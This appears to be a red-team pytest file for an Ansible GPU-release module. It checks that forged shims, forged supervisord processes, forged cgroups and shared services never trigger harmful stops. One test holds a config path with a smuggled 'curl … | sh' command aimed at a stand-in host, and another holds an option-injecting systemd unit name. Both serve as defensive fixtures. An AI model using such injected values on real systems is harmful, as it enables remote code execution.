"""Issue 42, red team: worlds against the first stop sets (each asserts the safe behaviour; each failed on 16029ad).

Check mode only (nothing is signalled); RespawnWatch over a ProcTree (no real pids)."""
import os
import shutil

from ansible_collections.gpuops.fleet.plugins.module_utils import _procscan as procscan
from ansible_collections.gpuops.fleet.plugins.module_utils._respawn import RespawnWatch

from test_hostile_names import environ
from test_stop_sets import DOCKER_ID, KILL, NS, SUPERVISOR, check, container, held, the_set
from release_opts import release_opts

OTHER_ID = "7e" + "2" * 60 + "cd"
USER_APP = NS + "/user.slice/user-1000.slice/user@1000.service/app.slice"


def real_docker_on_gpu1(proc):
    """A real docker container (OTHER_ID) of container 101 whose server holds GPU 1 (not targeted)."""
    scope = NS + "/system.slice/docker-%s.scope\n" % OTHER_ID
    proc.add(130, comm="containerd-shim", ppid=100, cgroup=NS + "/system.slice/containerd.service\n", nspid=[130, 30],
             argv=["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", OTHER_ID, "-address", "/run/c"])
    held(proc, 131, 130, scope, 1, nspid=[131, 31, 1], argv=["python3", "serve.py"])


GPUS_0_1 = [{"minor": 0, "used_mib": 9000, "procs": [(201, 9000)]}, {"minor": 1, "used_mib": 30000, "procs": [(131, 30000)]}]


def docker_stops(result):
    return [s for s in result["stop_sets"] if s["kind"] == "docker" and s["verdict"] == "stop"]


# ---- R1: `docker exec`'d siblings under the shim are not members of the docker set

def test_r1_a_docker_exec_sibling_on_an_untargeted_gpu_is_collateral(proc, monkeypatch, tmp_path):
    """shim -> launch.py (the container's pid 1) -> holder on GPU 0; shim -> `docker exec -d ... serve.py` on GPU 1
    (same docker container, same cgroup). `docker stop` kills both; the set's members are only pid 1's tree."""
    container(proc)
    scope = NS + "/system.slice/docker-%s.scope\n" % DOCKER_ID
    proc.add(120, comm="containerd-shim", ppid=100, cgroup=NS + "/system.slice/containerd.service\n", nspid=[120, 20],
             argv=["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", DOCKER_ID, "-address", "/run/c"])
    proc.add(121, comm="python3", ppid=120, cgroup=scope, nspid=[121, 21, 1], argv=["python3", "launch.py"])
    held(proc, 122, 121, scope, 0, nspid=[122, 22, 2], argv=["python3", "train.py"])
    held(proc, 124, 120, scope, 1, nspid=[124, 24, 7], argv=["python3", "serve.py"])      # docker exec'd
    gpus = [{"minor": 0, "used_mib": 9000, "procs": [(122, 9000)]}, {"minor": 1, "used_mib": 30000, "procs": [(124, 30000)]}]
    failed, msg, result = check(proc, monkeypatch, tmp_path, gpus)
    entry = the_set(result, DOCKER_ID[:12])
    assert 124 in [m["pid"] for m in entry["members"]] and entry["verdict"] == "refused", (
        "docker stop %s would kill pid 124 on GPU 1: members %s, verdict %s"
        % (DOCKER_ID[:12], [m["pid"] for m in entry["members"]], entry["verdict"]))


# ---- R2: a non-root user's fake containerd-shim names another docker container

def test_r2_a_users_fake_shim_cannot_point_docker_stop_at_another_container(proc, monkeypatch, tmp_path):
    container(proc)
    real_docker_on_gpu1(proc)
    session = NS + "/user.slice/user-1000.slice/session-3.scope\n"
    proc.add(200, comm="containerd-shim", ppid=100, uid=1000, cgroup=session, nspid=[200, 50],
             argv=["./containerd-shim", "-namespace", "moby", "-id", OTHER_ID])           # a user's script, renamed
    held(proc, 201, 200, session, 0, uid=1000, nspid=[201, 51], argv=["python3", "mine.py"])
    failed, msg, result = check(proc, monkeypatch, tmp_path, GPUS_0_1)
    stops = docker_stops(result)
    assert not stops, ("user 1000's fake shim makes the node run `docker stop %s` (pid 131, 30000 MiB on GPU 1): %s"
                       % (OTHER_ID[:12], [(s["name"], s["members"], s["reason"]) for s in stops]))


# ---- R3: a docker-ID.scope folder made in a user's delegated cgroup subtree

def test_r3_a_docker_scope_made_in_a_users_delegated_cgroup_is_no_docker_container(proc, monkeypatch, tmp_path):
    container(proc)
    real_docker_on_gpu1(proc)
    proc.add(150, comm="systemd", ppid=100, uid=1000, nspid=[150, 50], argv=["/lib/systemd/systemd", "--user"],
             cgroup=NS + "/user.slice/user-1000.slice/user@1000.service/init.scope\n")
    fake = "%s/docker-%s.scope\n" % (USER_APP, OTHER_ID)          # mkdir + echo $$ > cgroup.procs, as user 1000
    held(proc, 201, 150, fake, 0, uid=1000, nspid=[201, 51], argv=["python3", "mine.py"])
    failed, msg, result = check(proc, monkeypatch, tmp_path, GPUS_0_1)
    stops = docker_stops(result)
    assert not stops, ("a cgroup folder user 1000 made makes the node run `docker stop %s` (pid 131 on GPU 1): %s"
                       % (OTHER_ID[:12], [(s["name"], s["members"]) for s in stops]))


# ---- R4: supervisorctl stops a program by name in whichever supervisord its config reaches

def supervisord_with_inference_on_gpu1(proc):
    """The container's root supervisord (default config) runs program inference on GPU 1."""
    container(proc)
    proc.add(110, comm="supervisord", ppid=100, cgroup=SUPERVISOR, nspid=[110, 10],
             argv=["/usr/bin/python3", "/usr/bin/supervisord", "-n"])
    held(proc, 112, 110, SUPERVISOR, 1, argv=["python3", "serve.py"])
    environ(proc, 112, SUPERVISOR_PROCESS_NAME="inference", SUPERVISOR_GROUP_NAME="inference")


GPUS_R4 = [{"minor": 0, "used_mib": 9000, "procs": [(201, 9000)]}, {"minor": 1, "used_mib": 30000, "procs": [(112, 30000)]}]


def program_stops(result):
    """The supervisord programs decided "stop" (one would reach the real program of that name), as the node would
    run them, with their members."""
    return [(s["how_to_stop"], s["members"]) for s in result["stop_sets"]
            if s["kind"] == "supervisord" and s["verdict"] == "stop"]


def test_r4a_a_users_fake_supervisord_makes_root_stop_the_real_program_of_that_name(proc, monkeypatch, tmp_path):
    """User 1000 runs a process named supervisord (no -c) whose child claims SUPERVISOR_PROCESS_NAME=inference.
    Root's `supervisorctl stop inference:inference` (default config) reaches the REAL supervisord."""
    supervisord_with_inference_on_gpu1(proc)
    session = NS + "/user.slice/user-1000.slice/session-3.scope\n"
    proc.add(200, comm="supervisord", ppid=100, uid=1000, cgroup=session, nspid=[200, 50], argv=["./supervisord"])
    held(proc, 201, 200, session, 0, uid=1000, nspid=[201, 51], argv=["python3", "mine.py"])
    environ(proc, 201, SUPERVISOR_PROCESS_NAME="inference", SUPERVISOR_GROUP_NAME="inference")
    stops = program_stops(check(proc, monkeypatch, tmp_path, GPUS_R4)[2])
    assert not stops, "the node would run these in 101; the real program inference (pid 112, GPU 1) dies: %s" % stops


def test_r4b_a_program_that_rewrites_its_environ_names_another_program(proc, monkeypatch, tmp_path):
    """Under the same root supervisord, program trainer (user 1000) overwrote its own environ block to say
    inference: the stop set is 'inference:inference' with the trainer as its only member."""
    supervisord_with_inference_on_gpu1(proc)
    held(proc, 201, 110, SUPERVISOR, 0, uid=1000, argv=["python3", "train.py"])
    environ(proc, 201, SUPERVISOR_PROCESS_NAME="inference", SUPERVISOR_GROUP_NAME="inference")
    stops = program_stops(check(proc, monkeypatch, tmp_path, GPUS_R4)[2])
    assert not stops, "the node would run these in 101, killing pid 112 on GPU 1: %s" % stops


# ---- R5: a supervisord -c path goes unquoted into the hand-run command the result prints for the NODE's shell

def test_r5_a_supervisord_config_that_is_no_plain_path_gives_no_set_and_nothing_to_paste(proc, monkeypatch, tmp_path):
    container(proc)
    conf = "/etc/s.conf; curl -s http://x/y | sh; true"
    proc.add(110, comm="supervisord", ppid=100, cgroup=SUPERVISOR, nspid=[110, 10],
             argv=["/usr/bin/python3", "/usr/bin/supervisord", "-c", conf])
    held(proc, 111, 110, SUPERVISOR, 0, argv=["python3", "train.py"])
    environ(proc, 111, SUPERVISOR_PROCESS_NAME="trainer", SUPERVISOR_GROUP_NAME="trainer")
    failed, msg, result = check(proc, monkeypatch, tmp_path, [{"minor": 0, "used_mib": 9000, "procs": [(111, 9000)]}],
                                collateral="refuse")
    assert result["found_units"] == [] and [s["verdict"] for s in result["stop_sets"]] == ["no set"], result["stop_sets"]
    assert "-c is not a plain absolute path" in result["stop_sets"][0]["reason"]
    assert all("; curl" not in line for line in result["diagnosis"]), result["diagnosis"]


# ---- R6: a unit name that is an option of systemctl

def test_r6_a_unit_name_starting_with_a_dash_is_not_passed_as_an_option(proc, monkeypatch, tmp_path):
    container(proc)
    proc.add(150, comm="systemd", ppid=100, uid=1000, nspid=[150, 50], argv=["/lib/systemd/systemd", "--user"],
             cgroup=NS + "/user.slice/user-1000.slice/user@1000.service/init.scope\n")
    held(proc, 151, 150, "%s/-Hevil.service\n" % USER_APP, 0, uid=1000, argv=["python3", "mine.py"])
    failed, msg, result = check(proc, monkeypatch, tmp_path, [{"minor": 0, "used_mib": 9000, "procs": [(151, 9000)]}])
    for s in result["stop_sets"]:
        assert not (s["verdict"] == "stop" and "stop -H" in s["how_to_stop"]), (
            "root in 101 runs systemctl with an option the user chose: %s" % s["how_to_stop"])


# ---- R7, R8: respawns the watch misses (the old direct-parent watch saw both)

def test_r7_a_user_service_restarted_by_its_user_manager_is_a_respawn(proc):
    """jupyter.service (Restart=always) in user 1000's manager: the manager's comm is systemd (NOT_WATCHED), it is
    no init, so nothing is watched and the restarted holder is never seen (release says verified free)."""
    container(proc)
    app = USER_APP + "/jupyter.service"
    proc.add(150, comm="systemd", ppid=100, uid=1000, nspid=[150, 50], argv=["/lib/systemd/systemd", "--user"],
             cgroup=NS + "/user.slice/user-1000.slice/user@1000.service/init.scope\n")
    watch = RespawnWatch(proc.root, procscan.DeviceNames(), [0], KILL, known_pids=[100, 150, 151])
    watch.add({"pid": 151, "ppid": 150, "name": "python3", "cgroup": app.split("::", 1)[1],
               "_argv": ["python3", "-m", "jupyter", "lab"]})
    held(proc, 152, 150, app + "\n", 0, starttime=KILL + 9, uid=1000, argv=["python3", "-m", "jupyter", "lab"])
    found = watch.poll(lambda: [152])
    assert found is not None, "watched: %s; the respawned pid 152 is missed" % sorted(watch.parents)


def test_r8_a_respawn_whose_argv_carries_a_fresh_non_numeric_token_is_seen(proc):
    """`while :; do python3 train.py --run "$(uuidgen)"; done`: the new holder's argv differs in letters."""
    container(proc)
    proc.add(190, comm="sh", ppid=100, cgroup=NS + "\n", argv=["sh", "-c", "while :; do ...; done"])
    watch = RespawnWatch(proc.root, procscan.DeviceNames(), [0], KILL, known_pids=[190, 192])
    watch.add({"pid": 192, "ppid": 190, "name": "python3", "cgroup": "/lxc/101/ns",
               "_argv": ["python3", "train.py", "--run", "3f2a9c1e-b7d4-4e0a-9f5c-2d8e6a1b0c7f"]})
    held(proc, 194, 190, NS + "\n", 0, starttime=KILL + 9,
         argv=["python3", "train.py", "--run", "a81c0d3b-5e2f-4c9a-8b7d-e6f1a2b3c4d5"])
    assert watch.poll(lambda: [194]) is not None, "the same loop's new holder on GPU 0 is missed"


# ---- R9: the restart re-decision counts planned holders by pid alone (a reused pid gets the holder's tolerance)

def test_r9_a_reused_planned_pid_gets_no_context_tolerance_right_before_the_restart(proc, monkeypatch):
    from ansible_collections.gpuops.fleet.plugins.module_utils import _node as node
    from ansible_collections.gpuops.fleet.plugins.module_utils._release import Releaser
    from test_nothing_half_done import Backend, conf, node_engine
    container(proc)
    held(proc, 170, 100, NS + "\n", 0, argv=["python3", "train.py"])
    held(proc, 175, 100, NS + "\n", 0, argv=["python3", "stuck.py"])
    gpus = [{"minor": 0, "used_mib": 20000, "procs": [(170, 10000), (175, 10000)]}, {"minor": 1, "used_mib": 0, "procs": []}]
    engine = node_engine(proc, gpus, monkeypatch, {"101": conf([0, 1])})
    backend = Backend()
    releaser = Releaser(engine, [0], release_opts(container_restart=True, restart_backend=backend,
                                                  container_timeout=30.0, scope=node.Scope([101], proc_root=proc.root)))
    releaser.prepare(releaser.snapshot())
    assert releaser.refusals == [] and {r["pid"] for r in releaser.to_signal} == {170, 175}
    shutil.rmtree(os.path.join(proc.root, "170"))     # 170 died in the ladder; its pid now names a new 600 MiB job
    held(proc, 170, 100, NS + "\n", 1, starttime=KILL + 50, argv=["python3", "embed.py"])
    gpus[0].update(used_mib=10000, procs=[(175, 10000)])
    gpus[1].update(used_mib=600, procs=[(170, 600)])
    releaser._restart_containers("SIGKILL left the targeted memory held")
    assert backend.calls == [], ("container 101 restarted over the new job on GPU 1 (600 MiB, untargeted) because "
                                 "its pid is a planned holder's: %s" % backend.calls)


# ---- R10: a container restart kills a holder of the targeted GPU that the operator protected

def test_r10_a_restart_over_a_protected_holder_of_the_targeted_gpu_is_refused(proc, monkeypatch, tmp_path):
    from ansible_collections.gpuops.fleet.plugins.module_utils._selectors import Protect
    from test_nothing_half_done import Backend
    container(proc)
    held(proc, 170, 100, NS + "\n", 0, argv=["python3", "train.py"])
    held(proc, 176, 100, NS + "\n", 0, argv=["python3", "keepme.py"])
    gpus = [{"minor": 0, "used_mib": 20000, "procs": [(170, 10000), (176, 10000)]}, {"minor": 1, "used_mib": 0, "procs": []}]
    failed, msg, result = check(proc, monkeypatch, tmp_path, gpus, container_restart=True, restart_backend=Backend(),
                                protect=Protect([".*keepme.*"]))
    assert [s["pid"] for s in result["not_signalled"]] == [176], result["not_signalled"]
    assert failed or result["restart_plan"][0].get("refusal"), (
        "the restart plan would stop protected pid 176 (GPU 0) with everything else: %s" % msg)


# ---- R11: the watch leaves the container (a holder started with pct exec / lxc-attach from the node)

def test_r11_the_watch_never_leaves_the_container(proc):
    proc.add(1, comm="systemd", ppid=0, cgroup="0::/init.scope\n")
    proc.add(100, comm="systemd", ppid=1, cgroup=NS + "/init.scope\n", nspid=[100, 1])
    proc.add(80, comm="bash", ppid=1, cgroup="0::/user.slice/user-0.slice/session-1.scope\n")      # the node's admin
    proc.add(81, comm="lxc-attach", ppid=80, cgroup="0::/user.slice/user-0.slice/session-1.scope\n")
    held(proc, 182, 81, NS + "\n", 0, nspid=[182, 82], argv=["python3", "train.py"])
    watch = RespawnWatch(proc.root, procscan.DeviceNames(), [0], KILL, known_pids=[1, 80, 81, 100, 182])
    watch.add({"pid": 182, "ppid": 81, "name": "python3", "cgroup": "/lxc/101/ns", "_argv": ["python3", "train.py"]})
    assert not set(watch.parents) & {1, 80, 81}, "node processes watched: %s" % sorted(watch.parents)


# ---- R12: odd /proc content never raises out of found_for / stop_set_verdict

def test_r12_odd_proc_content_never_raises(proc):
    import random
    from ansible_collections.gpuops.fleet.plugins.module_utils import _stopsets as stopsets
    from ansible_collections.gpuops.fleet.plugins.module_utils._decide import stop_set_verdict

    class Report(object):
        holders, unreadable = [], []

    rng = random.Random(42)
    comms = ["supervisord", "containerd-shim", "sh", "bash", "systemd", "python3", "tmux: server", "x)y (z", ""]
    cgroups = [NS + "/system.slice/a.service", NS + "/user.slice/user-1000.slice/user@1000.service",
               NS + "/user@\u0661\u0660.service/x.service", NS + "/system.slice/docker-%s.scope/../x" % DOCKER_ID,
               NS + "/docker/%s" % DOCKER_ID, NS, NS + "/lxc/200/ns/system.slice/b.service", "0::/", "garbage",
               NS + "/system.slice/-x.service", NS + "/a.slice/b.slice"]
    container(proc)
    pids = list(range(300, 360))
    for pid in pids:
        proc.add(pid, comm=rng.choice(comms), ppid=rng.choice(pids + [100, 0, 1, 99999]),
                 cgroup=rng.choice(cgroups) + "\n", nspid=rng.choice([[pid, pid - 200], [pid, 3, 1], [pid], None]),
                 argv=rng.choice([["x"], ["containerd-shim", "-namespace", "moby", "-id", DOCKER_ID], ["-c"], []]))
        if rng.random() < 0.3:
            environ(proc, pid, SUPERVISOR_PROCESS_NAME=rng.choice(["a", "-x", "a:b", "\u00e9", ""]))
        if rng.random() < 0.1:
            os.remove(os.path.join(proc.root, str(pid), "status"))
    records = [{"pid": p, "container": "101"} for p in pids]
    for entry in stopsets.found_for(records, proc.root):
        stop_set_verdict(entry, Report(), [0], [0, 1], [r["pid"] for r in records], {})


# ---- R13: a multi-user manager missing from MANAGERS: jupyterhub.service takes other users' notebooks with it

def test_r13_jupyterhub_service_is_not_one_users_program(proc, monkeypatch, tmp_path):
    """JupyterHub's LocalProcessSpawner: each user's server (their uid) is the hub's child, in jupyterhub.service.
    Alice's kernel holds GPU 0; Bob's notebook server and kernel hold no GPU. The set passes (no GPU collateral) and
    `systemctl stop jupyterhub.service` ends Bob's work: another user's program, no GPU, not the holder's own."""
    container(proc)
    unit = NS + "/system.slice/jupyterhub.service\n"
    proc.add(130, comm="jupyterhub", ppid=100, cgroup=unit, nspid=[130, 30], argv=["/usr/bin/python3", "jupyterhub"])
    proc.add(131, comm="jupyterhub-sing", ppid=130, uid=1001, cgroup=unit, nspid=[131, 31])
    held(proc, 132, 131, unit, 0, uid=1001, argv=["python3", "-m", "ipykernel_launcher", "-f", "k1.json"])
    proc.add(133, comm="jupyterhub-sing", ppid=130, uid=1002, cgroup=unit, nspid=[133, 33])
    proc.add(134, comm="python3", ppid=133, uid=1002, cgroup=unit, nspid=[134, 34],
             argv=["python3", "-m", "ipykernel_launcher", "-f", "k2.json"])
    failed, msg, result = check(proc, monkeypatch, tmp_path, [{"minor": 0, "used_mib": 9000, "procs": [(132, 9000)]}])
    entry = the_set(result, "jupyterhub.service")
    assert entry["verdict"] != "stop", ("stops user 1002's server and kernel (pids 133, 134) with user 1001's: %s"
                                        % [(m["pid"], m["name"]) for m in entry["members"]])
